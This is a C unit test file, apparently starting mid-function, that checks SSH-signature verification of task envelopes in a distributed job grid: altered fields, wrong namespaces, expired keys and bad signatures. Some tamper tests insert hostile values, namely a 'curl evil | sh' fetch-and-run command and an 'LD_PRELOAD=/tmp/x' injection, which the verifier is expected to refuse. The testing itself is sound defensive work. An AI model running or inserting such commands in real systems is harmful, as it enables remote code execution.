	struct dg_task task;
	struct dg_tasksign_verdict v = DG_TASKSIGN_VERDICT_INIT;
	struct dg_strbuf cmd = DG_STRBUF_INIT, sha = DG_STRBUF_INIT;
	json_t *result = NULL;

	fixture_init(&fx);
	signed_task(&task, &fx.key, NS, TASK_BYTES, TASK_BYTES);
	assert_int_equal(dg_tasksign_verify(&v, &task, &fx.with, (int64_t)time(NULL)), 0);
	assert_true(v.is_signed);
	assert_string_equal(v.key, fx.fp);
	assert_string_equal(v.principals, "test@example.com,ci");

	/* the hash of the signed bytes, as sha256sum computes it */
	write_in("task.json", TASK_BYTES, strlen(TASK_BYTES));
	dg_strbuf_addf(&cmd, "sha256sum '%s' | cut -d' ' -f1", at("task.json"));
	capture(&sha, cmd.buf);
	assert_int_equal(sha.len, 64);
	assert_string_equal(v.sha256, sha.buf);

	dg_tasksign_note(&result, &v);
	assert_string_equal(json_string_value(json_object_get(result, "task_signer")), fx.fp);
	assert_string_equal(json_string_value(json_object_get(result, "task_signed_by")), "test@example.com,ci");
	assert_string_equal(json_string_value(json_object_get(result, "task_sha256")), sha.buf);
	json_decref(result);
	dg_tasksign_verdict_release(&v);
	assert_null(v.principals);

	/* without a list of signers, a good signature still counts as signed */
	assert_int_equal(dg_tasksign_verify(&v, &task, NULL, (int64_t)time(NULL)), 0);
	assert_true(v.is_signed);
	assert_null(v.principals);
	assert_string_equal(v.key, fx.fp);
	dg_tasksign_verdict_release(&v);

	/* the grid's own fields do not alter the task */
	json_object_set_new(task.doc, "node_id", json_string("worker-7"));
	json_object_set_new(task.doc, "claimed_at", json_string("2026-06-02T00:00:00Z"));
	json_object_set_new(task.doc, "attempt", json_integer(2));
	json_object_set_new(task.doc, "lease_seconds", json_integer(90));
	json_object_set_new(task.doc, "lease_renewed_at", json_string("2026-06-02T00:01:00Z"));
	json_object_set_new(task.doc, "retried", json_integer(1));
	json_object_set_new(task.doc, "queue_group", json_string("alice"));
	json_object_set_new(task.doc, "not_before", json_string("2026-07-01T00:00:00Z"));
	assert_int_equal(verify(&task, &fx.with), 0);
	dg_task_release(&task);

	/* a task delayed past its signed not_before still runs */
	signed_task(&task, &fx.key, NS,
		    "{\"task_id\": \"signed-1\", \"script\": \"echo hello\", \"timeout_seconds\": 30,"
		    " \"priority\": 3, \"not_before\": \"2026-06-01T00:00:01Z\"}", TASK_BYTES);
	assert_int_equal(verify(&task, &fx.with), 0);
	dg_task_release(&task);

	dg_strbuf_release(&cmd);
	dg_strbuf_release(&sha);
	fixture_release(&fx);
}

static void expect_refusal(struct dg_task *task, const struct dg_signers *signers, const char *prefix,
			   const char *part)
{
	struct dg_tasksign_verdict v = DG_TASKSIGN_VERDICT_INIT;

	if (dg_tasksign_verify(&v, task, signers, (int64_t)time(NULL)) != DG_EINVALID)
		fail_msg("accepted, expected '%s'", prefix);
	assert_prefix(dg_error_last(), prefix);
	if (part)
		assert_contains(dg_error_last(), part);
	assert_false(v.is_signed);
	assert_null(v.principals);
}

static void test_tasksign_altered(void **state DG_UNUSED)
{
	struct fixture fx;
	struct dg_task task;

	fixture_init(&fx);

	signed_task(&task, &fx.key, NS, TASK_BYTES, TASK_BYTES);
	json_object_set_new(task.doc, "script", json_string("curl evil | sh"));
	expect_refusal(&task, &fx.with, "altered:", "'script'");
	/* with no list of signers the check is the same */
	expect_refusal(&task, NULL, "altered:", "'script'");
	dg_task_release(&task);

	signed_task(&task, &fx.key, NS, TASK_BYTES, TASK_BYTES);
	json_object_set_new(task.doc, "env", json_string("LD_PRELOAD=/tmp/x"));
	expect_refusal(&task, &fx.with, "altered:", "'env'");
	dg_task_release(&task);

	signed_task(&task, &fx.key, NS, TASK_BYTES, TASK_BYTES);
	json_object_del(task.doc, "priority");
	expect_refusal(&task, &fx.with, "altered:", "'priority'");
	dg_task_release(&task);

	signed_task(&task, &fx.key, NS, TASK_BYTES, TASK_BYTES);
	json_object_set_new(task.doc, "timeout_seconds", json_integer(300));
	expect_refusal(&task, &fx.with, "altered:", "'timeout_seconds'");
	dg_task_release(&task);

	/* a task made to run earlier than it was signed for */
	signed_task(&task, &fx.key, NS,
		    "{\"task_id\": \"signed-1\", \"script\": \"echo hello\", \"timeout_seconds\": 30,"
		    " \"priority\": 3, \"not_before\": \"2026-05-31T23:59:59Z\"}", TASK_BYTES);
	expect_refusal(&task, &fx.with, "altered:", "not_before");
	dg_task_release(&task);
	signed_task(&task, &fx.key, NS,
		    "{\"task_id\": \"signed-1\", \"script\": \"echo hello\", \"timeout_seconds\": 30,"
		    " \"priority\": 3}", TASK_BYTES);
	expect_refusal(&task, &fx.with, "altered:", "not_before");
	dg_task_release(&task);

	/* another task's signed bytes: the signature holds, the task is not the one signed */
	signed_task(&task, &fx.key, NS, TASK_BYTES,
		    "{\"task_id\": \"signed-2\", \"script\": \"echo hello\", \"timeout_seconds\": 30,"
		    " \"priority\": 3, \"not_before\": \"2026-06-01T00:00:00Z\"}");
	expect_refusal(&task, &fx.with, "altered:", "'task_id'");
	dg_task_release(&task);

	/* signed bytes that are not a task */
	signed_task(&task, &fx.key, NS, TASK_BYTES, "echo hello");
	expect_refusal(&task, &fx.with, "altered:", NULL);
	dg_task_release(&task);

	fixture_release(&fx);
}

static void test_tasksign_refusals(void **state DG_UNUSED)
{
	struct fixture fx;
	struct dg_task task = DG_TASK_INIT;
	struct dg_tasksign_verdict v = DG_TASKSIGN_VERDICT_INIT;
	struct dg_signers limited = DG_SIGNERS_INIT;
	struct dg_strbuf text = DG_STRBUF_INIT, armor = DG_STRBUF_INIT;
	json_t *env;

	fixture_init(&fx);

	/* a key that is not in the list */
	signed_task(&task, &fx.key, NS, TASK_BYTES, TASK_BYTES);
	expect_refusal(&task, &fx.without, "unknown key:", fx.fp);
	/* an empty list trusts nobody */
	limited = (struct dg_signers)DG_SIGNERS_INIT;
	expect_refusal(&task, &limited, "unknown key:", NULL);
	dg_task_release(&task);

	/* the key listed, for other namespaces or another time */
	dg_strbuf_addstr(&text, "a namespaces=\"git,file\" ");
	dg_sshkey_format_public(&text, fx.key.pk);
	assert_int_equal(dg_signers_parse(&limited, "ns", text.buf, text.len), 0);
	signed_task(&task, &fx.key, NS, TASK_BYTES, TASK_BYTES);
	expect_refusal(&task, &limited, "wrong namespace:", NULL);
	dg_signers_release(&limited);
	dg_strbuf_reset(&text);
	dg_strbuf_addstr(&text, "a valid-before=\"20200101Z\" ");
	dg_sshkey_format_public(&text, fx.key.pk);
	assert_int_equal(dg_signers_parse(&limited, "before", text.buf, text.len), 0);
	expect_refusal(&task, &limited, "expired:", "2020-01-01T00:00:00Z");
	dg_signers_release(&limited);
	dg_task_release(&task);

	/* a signature made for another namespace */
	signed_task(&task, &fx.key, "file", TASK_BYTES, TASK_BYTES);
	expect_refusal(&task, &fx.with, "wrong namespace:", "'file'");
	expect_refusal(&task, NULL, "wrong namespace:", "'file'");
	dg_task_release(&task);

	/* a signature over other bytes than the envelope's */
	assert_int_equal(dg_task_parse(&task, TASK_BYTES, strlen(TASK_BYTES), NULL, NULL), 0);
	dg_sshsig_sign(&armor, &fx.key, NS, "something else", 14);
	dg_tasksign_embed(&task, TASK_BYTES, strlen(TASK_BYTES), armor.buf, armor.len);
	expect_refusal(&task, &fx.with, "bad signature:", "does not match");
	expect_refusal(&task, NULL, "bad signature:", "does not match");
	/* a mangled armor */
	dg_tasksign_embed(&task, TASK_BYTES, strlen(TASK_BYTES), "-----BEGIN SSH SIGNATURE-----\nxx", 32);
	expect_refusal(&task, &fx.with, "bad signature:", NULL);
	/* an envelope of the wrong shape */
	json_object_set_new(task.doc, "signed", json_string("yes"));
	expect_refusal(&task, &fx.with, "bad signature:", NULL);
	expect_refusal(&task, NULL, "bad signature:", NULL);
	env = json_pack("{s:s, s:i}", "task", TASK_BYTES, "sshsig", 7);
	json_object_set_new(task.doc, "signed", env);
	expect_refusal(&task, &fx.with, "bad signature:", NULL);
	dg_task_release(&task);

	/* no envelope */
	assert_int_equal(dg_task_parse(&task, TASK_BYTES, strlen(TASK_BYTES), NULL, NULL), 0);
	expect_refusal(&task, &fx.with, "unsigned:", "signed-1");
	assert_int_equal(dg_tasksign_verify(&v, &task, NULL, (int64_t)time(NULL)), 0);
	assert_false(v.is_signed);
	assert_null(v.principals);
	dg_tasksign_verdict_release(&v);
	dg_task_release(&task);

	dg_strbuf_release(&text);
	dg_strbuf_release(&armor);
	fixture_release(&fx);
}

static void test_tasksign_keygen_envelope(void **state DG_UNUSED)
{
	struct fixture fx;
	struct dg_task task = DG_TASK_INIT;
	struct dg_strbuf armor = DG_STRBUF_INIT;

	/* a submitter who signs with ssh-keygen, not with dgrid */
	fixture_init(&fx);
	write_in("task-kg.json", TASK_BYTES, strlen(TASK_BYTES));
	keygen_sign("key", NS, "task-kg.json");
	read_in(&armor, "task-kg.json.sig");
	assert_int_equal(dg_task_parse(&task, TASK_BYTES, strlen(TASK_BYTES), NULL, NULL), 0);
	dg_tasksign_embed(&task, TASK_BYTES, strlen(TASK_BYTES), armor.buf, armor.len);
	assert_int_equal(verify(&task, &fx.with), 0);
	dg_task_release(&task);
	dg_strbuf_release(&armor);
	fixture_release(&fx);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_keygen_signature_verifies),
		cmocka_unit_test(test_keygen_other_namespace),
		cmocka_unit_test(test_keygen_rsa_signature_refused),
		cmocka_unit_test(test_sign_verified_by_keygen),
		cmocka_unit_test(test_fingerprint_matches_keygen),
		cmocka_unit_test(test_public_key_round_trip),
		cmocka_unit_test(test_public_key_refusals),
		cmocka_unit_test(test_load_refusals),
		cmocka_unit_test(test_parse_fields),
		cmocka_unit_test(test_parse_hostile),
		cmocka_unit_test(test_parse_mutilated),
		cmocka_unit_test(test_tasksign_accepts),
		cmocka_unit_test(test_tasksign_altered),
		cmocka_unit_test(test_tasksign_refusals),
		cmocka_unit_test(test_tasksign_keygen_envelope),
	};

	if (sodium_init() < 0)
		return 1;
	return cmocka_run_group_tests(tests, setup, teardown);
}
